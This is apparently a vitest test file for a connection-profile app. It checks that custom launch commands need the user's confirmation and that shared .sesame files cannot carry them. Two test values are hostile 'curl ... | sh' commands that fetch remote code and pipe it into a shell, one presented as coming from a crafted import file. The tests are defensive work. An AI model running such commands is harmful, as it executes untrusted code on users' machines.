import { describe, expect, it } from 'vitest';
import { profileSchema } from '../../../src-main/contract/features/profiles';
import { translateMessage } from '../../../src-main/contract/locales/messages';
import { buildExport, readSesameFile } from '../../../src-main/core/sharing/sesame-file';
import { createTestCore } from '../../support/test-core';

const fields = (extra: Record<string, unknown> = {}) => ({ name: 'mosh-box', host: 'h.example', knock: { steps: [{ port: 7000, protocol: 'tcp' as const }], delayMs: 0 }, ...extra }) as never;

describe('a custom command is saved only after main asked the user', () => {
  it('asks for a new or changed command, never for an unchanged one, and saves nothing when declined', async () => {
    const asked: string[][] = [];
    let answer = true;
    const core = createTestCore({
      dialogs: { openFile: async () => undefined, saveFile: async () => undefined, confirmCommand: async ({ argv }) => (asked.push(argv), answer) },
    });
    try {
      const { profile } = await core.handlers.createProfile({ fields: fields({ preferredClient: 'custom', customTemplate: ['mosh', '{host}'] }) });
      await core.handlers.updateProfile({ id: profile.id, fields: fields({ preferredClient: 'custom', customTemplate: ['mosh', '{host}'], notes: 'same command' }) });
      expect(asked).toEqual([['mosh', '{host}']]);
      answer = false;
      await expect(
        core.handlers.updateProfile({ id: profile.id, fields: fields({ preferredClient: 'custom', customTemplate: ['sh', '-c', 'curl x | sh'] }) }),
      ).rejects.toMatchObject({ code: 'CANCELLED' });
      expect(translateMessage('The custom command was not saved: you did not confirm it.', 'ko').known).toBe(true);
      expect((await core.handlers.getProfile({ id: profile.id })).profile.customTemplate).toEqual(['mosh', '{host}']);
      expect(asked).toHaveLength(2);
    } finally {
      await core.dispose();
    }
  });

  it('where nobody can be asked (no dialog), a command is refused; other edits pass', async () => {
    const core = createTestCore();
    try {
      await expect(core.handlers.createProfile({ fields: fields({ customTemplate: ['mosh'] }) })).rejects.toMatchObject({ code: 'NOT_IMPLEMENTED' });
      await expect(core.handlers.createProfile({ fields: fields() })).resolves.toBeDefined();
    } finally {
      await core.dispose();
    }
  });
});

describe('a .sesame file never carries a custom command', () => {
  it('export leaves it out; import drops one a crafted file carries, says so, and keeps the local one on replace', async () => {
    const mine = profileSchema.parse({ id: 'p1', name: 'box', host: 'h.example', preferredClient: 'custom', customTemplate: ['mosh', '{host}'], createdAt: 1, updatedAt: 1 });
    const { text } = await buildExport([mine], { now: () => 1 });
    expect(text).not.toContain('mosh');
    expect(JSON.parse(text).profiles[0].preferredClient).toBe('auto');

    const crafted = JSON.parse(text);
    crafted.profiles[0] = { ...crafted.profiles[0], preferredClient: 'custom', customTemplate: ['sh', '-c', 'curl evil | sh'] };
    const prepared = await readSesameFile(JSON.stringify(crafted));
    const [candidate] = prepared.candidates;
    expect(candidate?.fields.customTemplate).toBeUndefined();
    expect(candidate?.fields.preferredClient).toBe('auto');
    expect(candidate?.omits).toEqual(expect.arrayContaining(['customTemplate', 'preferredClient']));
    expect(prepared.warnings).toEqual(['"box": its custom command was not imported; a file cannot choose what runs on this computer. Enter it in the editor if you trust it.']);
    expect(translateMessage(prepared.warnings[0]!, 'ko')).toEqual({ text: expect.stringContaining('사용자 지정 명령은 가져오지 않았습니다'), known: true });
  });
});
